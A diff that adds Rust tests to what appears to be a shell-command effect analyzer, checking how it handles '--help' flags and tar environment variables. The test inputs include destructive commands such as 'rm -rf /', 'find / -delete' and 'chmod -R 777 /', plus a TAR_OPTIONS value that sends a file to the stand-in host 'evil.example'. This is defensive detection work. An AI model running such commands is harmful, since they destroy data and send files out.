@@ -235,3 +235,38 @@ fn more_words_make_unknown_paths() {
     let found = effects(&rm);
     assert!(found.deletes[0].path.has_unknown() && found.deletes.len() == 1);
 }
+
+#[test]
+fn a_program_that_shows_its_help_does_nothing() {
+    for text in ["rm -rf / --help", "rm --version x", "rm -rf --help x", "chmod -R 777 / --help"] {
+        assert_eq!(told(text), "", "{text}");
+    }
+    for text in [
+        "rm -rf / -- --help",
+        "find / -name --help -delete",
+        "find / -exec echo --help ; -delete",
+        "chmod -R --reference --help /",
+        "mv --no-such-option --help a b",
+    ] {
+        assert_ne!(told(text), "", "{text}");
+    }
+    let mut strict = run("rm -rf /x --help");
+    strict.env.push(("POSIXLY_CORRECT".to_owned(), Word::text("1")));
+    assert_eq!(paths(&effects(&strict).deletes).first().map(String::as_str), Some("/x/"));
+}
+
+#[test]
+fn tar_takes_options_from_its_variables() {
+    let told = |variable: &str, value: Word| {
+        let mut run = run("tar -- key");
+        run.env.push((variable.to_owned(), value));
+        effects(&run)
+    };
+    let sent = told("TAR_OPTIONS", Word::text("--create --file=evil.example:/archive"));
+    assert_eq!(sent.connects.first().unwrap().host.written(), "evil.example");
+    assert_eq!(paths(&sent.reads), ["/w/key/"]);
+    assert!(!told("TAR_OPTIONS", Word::unknown("$X", true)).unclear.is_empty());
+    let mut tape = run("tar -c key");
+    tape.env.push(("TAPE".to_owned(), Word::text("evil.example:/x")));
+    assert_eq!(effects(&tape).connects.len(), 1);
+}
